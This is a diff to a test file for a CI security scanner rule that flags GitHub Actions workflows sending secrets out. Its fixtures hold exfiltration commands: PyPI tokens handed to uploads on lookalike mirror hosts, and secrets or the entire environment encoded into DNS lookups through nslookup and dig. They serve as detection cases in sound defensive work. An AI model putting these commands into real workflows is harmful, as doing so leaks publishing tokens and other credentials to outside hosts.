@@ -538,6 +538,47 @@ describe('gha-secrets-exfiltration', () => {
     expect(dropOwnHostSends(findings, 'acme', 'tint').map((f) => f.line)).toEqual([6, 9]);
   });
 
+  it('reports a PyPI token given to an upload to another host (a .pypirc written with another repository, twine --repository-url, TWINE_REPOSITORY_URL, the publish action\'s repository-url), high; PyPI and TestPyPI are not', () => {
+    const pypirc = `on: push\n${job(`      - name: Publish
+        run: |
+          cat > ~/.pypirc <<EOF
+          [distutils]
+          index-servers = pypi
+          [pypi]
+          repository = https://upload.pypi-mirror.dev/legacy/
+          username = __token__
+          password = \${{ secrets.PYPI_TOKEN }}
+          EOF
+          twine upload dist/*
+`)}`;
+    expect(only(pypirc, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'high', 12]]);
+    expect(extractWorkflow(pypirc, '.github/workflows/x.yml').findings?.[0]?.title).toBe('A PyPI token is given to an upload to upload.pypi-mirror.dev');
+    const option = `on: push\n${job(`      - run: twine upload --repository-url https://pkgs.build-mirror.io/simple/ -u __token__ -p \${{ secrets.PYPI_API_TOKEN }} dist/*
+`)}`;
+    expect(only(option, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'high', 6]]);
+    const env = `on: push\n${job(`      - run: twine upload dist/*
+        env:
+          TWINE_USERNAME: __token__
+          TWINE_PASSWORD: \${{ secrets.TWINE_PASSWORD }}
+          TWINE_REPOSITORY_URL: https://pypi.acme-cdn.net/legacy/
+`)}`;
+    expect(only(env, 'gha-secrets-exfiltration').map(([id, severity]) => [id, severity])).toEqual([['gha-secrets-exfiltration', 'high']]);
+    const action = `on: push\n${job(`      - uses: pypa/gh-action-pypi-publish@${SHA}
+        with:
+          password: \${{ secrets.PYPI_API_TOKEN }}
+          repository-url: https://upload.pypi.example.net/legacy/
+`)}`;
+    expect(only(action, 'gha-secrets-exfiltration').map(([id, severity]) => [id, severity])).toEqual([['gha-secrets-exfiltration', 'high']]);
+    // PyPI itself and TestPyPI; a private index with its own secret; a PyPI token with no other repository.
+    const fine = [
+      `      - run: twine upload --repository-url https://upload.pypi.org/legacy/ -p \${{ secrets.PYPI_API_TOKEN }} dist/*\n`,
+      `      - uses: pypa/gh-action-pypi-publish@${SHA}\n        with:\n          password: \${{ secrets.TEST_PYPI_API_TOKEN }}\n          repository-url: https://test.pypi.org/legacy/\n`,
+      `      - run: twine upload --repository-url https://acme.jfrog.io/artifactory/api/pypi/local -p \${{ secrets.ARTIFACTORY_TOKEN }} dist/*\n`,
+      `      - run: twine upload -p \${{ secrets.PYPI_API_TOKEN }} dist/*\n`,
+    ];
+    for (const steps of fine) expect(only(`on: push\n${job(steps)}`, 'gha-secrets-exfiltration'), steps).toEqual([]);
+  });
+
   it('reports a secret or the environment written into the name of a DNS lookup, critical; ordinary lookups are not', () => {
     const sent = `on: push\n${job(`      - run: nslookup "$(echo \${{ secrets.NPM_TOKEN }} | base32 | tr -d = | head -c 60).cache-check.dev"
       - run: for c in $(env | base64 -w0 | fold -w 60); do dig +short "$c.d.telemetry-ns.net"; done
